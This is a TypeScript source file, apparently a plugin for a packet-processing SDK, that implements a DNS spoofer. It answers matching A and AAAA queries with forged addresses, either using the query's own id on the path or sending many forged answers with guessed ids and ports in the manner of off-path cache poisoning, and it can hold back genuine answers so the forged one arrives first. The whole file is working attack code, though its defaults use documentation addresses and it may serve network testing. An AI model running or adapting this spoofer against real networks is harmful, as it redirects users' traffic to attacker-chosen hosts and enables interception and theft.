import { build, defineHook, dnsMessage, hold, type Nanos, option, outerLayers } from 'hookline/sdk';

const [A, AAAA, IN] = [1, 28, 1];

/** A name in which `*` stands for any text, whatever the case. */
const namePattern = (text: string): RegExp => {
  const parts = text.replace(/\.$/, '').split('*');
  return new RegExp(`^${parts.map(part => part.replace(/[\\^$.+?()[\]{}|]/g, '\\$&')).join('.*')}$`, 'i');
};

/**
 * Answers DNS queries over UDP (RFC 1035 §4) before the server does: on the path with the query's own id, or, as one who
 * does not see it, with so many guessed ids. A guess has the name in lower case, which a resolver refuses that mixes cases
 * (draft-vixie-dnsext-dns0x20), and, if `ports` says so, a guessed port (RFC 5452 §4). Other names and types pass.
 * Genuine answers can be held back, so that the forged one wins. At both stages of a link it sees queries at one and
 * answers at the other.
 * Random draws: for each guess one, with `ports` two.
 */
export default defineHook({
  name: 'dns-spoofer',
  about: 'Answers DNS queries with forged addresses, knowing the id or guessing it.',
  filter: 'udp port 53 or (vlan and udp port 53)',
  needs: ['observe', 'inject'],
  options: {
    name: option.of(
      'name pattern',
      namePattern,
      '*.example.com',
    )('which names, whatever their case; `*` stands for any text', '*'),
    ipv4: option.unless('none', option.ipv4)('address for A queries', '192.0.2.66'),
    ipv6: option.unless('none', option.network)('address for AAAA queries', '2001:db8::66'),
    ttl: option.span('how long the forged answer may be kept, in whole seconds', '5min'),
    after: option.span('from the query to the forged answer, or to the first guess', '1ms'),
    guesses: option.count('forged answers with guessed ids; 0: one with the right id', '0'),
    spacing: option.span('from one guess to the next', '10us'),
    ports: option.unless('known', option.ports)('guess the port of who asks, too: one of these'),
    delay: option.span('how long genuine answers are held back', '0ms'),
  },

  setup({ options: { ipv6, guesses } }) {
    if (ipv6 && ipv6.address.length !== 16) throw new RangeError("'ipv6' is no IPv6 address");
    if (guesses > 0x10000) throw new RangeError(`'guesses' can be 65536 at most, not ${guesses}`);
  },

  preamble(frame, { options, rng, count, emit, inject }) {
    const { udp } = frame;
    const dns = udp && dnsMessage(frame);
    if (!dns?.complete || dns.opcode !== 0 || dns.questions !== 1 || dns.class !== IN) return;
    const { name, type } = dns;
    if (name === undefined || !options.name.test(name)) return;
    const address = type === A ? ipv4Bytes(options.ipv4) : type === AAAA ? options.ipv6?.address : undefined;
    if (address === undefined) return;

    if (dns.response) {
      // A forged answer that went back into the paired stage comes by as well: it ends in the address.
      const last = frame.start + dns.end - address.length;
      const forged = address.every((byte, i) => frame.memory[last + i] === byte);
      if (udp!.srcPort !== 53 || forged || options.delay === 0) return;
      count('held');
      return hold(options.delay);
    }
    if (udp!.dstPort !== 53) return;

    const guessed = options.guesses > 0;
    const asked = frame.memory.subarray(frame.start + dns.at, frame.start + dns.questionEnd);
    const payload = answerTo(asked, address, Math.floor(options.ttl / 1e9), guessed);
    const ports = { srcPort: 53, dstPort: udp!.srcPort };
    const answer = build({ ...outerLayers(frame, 'back'), udp: ports, payload });
    for (let n = 0; n < Math.max(1, options.guesses); n++) {
      if (guessed) answer.edit16(answer.start + answer.payloadOffset, rng.below(0x10000));
      if (guessed && options.ports) {
        answer.udp!.dstPort = options.ports.low + rng.below(options.ports.high - options.ports.low + 1);
      }
      inject(answer, { after: (options.after + n * options.spacing) as Nanos, toward: 'back' });
    }
    count('queries');
    count('forged', Math.max(1, options.guesses));
    emit('spoofed', { name, type: type === A ? 'A' : 'AAAA', query: frame.id });
  },
});

const ipv4Bytes = (address: number | undefined): Uint8Array | undefined =>
  address === undefined ? undefined : Uint8Array.of(address >>> 24, address >>> 16, address >>> 8, address);

/** The header and question as they were asked, and one record, which has its name from the question (RFC 1035 §4.1.4). */
const answerTo = (asked: Uint8Array, address: Uint8Array, ttl: number, lower: boolean): Uint8Array => {
  const end = asked.length;
  const record = [0xc0, 12, asked[end - 4], asked[end - 3], 0, IN, ttl >>> 24, ttl >>> 16, ttl >>> 8, ttl];
  const answer = Uint8Array.of(...asked, ...record, 0, address.length, ...address);
  // A response, recursion available and as desired as before; one question, one answer, no further records.
  answer.set([0x80 | (asked[2] & 1), 0x80, 0, 1, 0, 1, 0, 0, 0, 0], 2);
  if (lower) for (let i = 12; i < end - 4; i++) if (answer[i] >= 65 && answer[i] <= 90) answer[i] += 32;
  return answer;
};
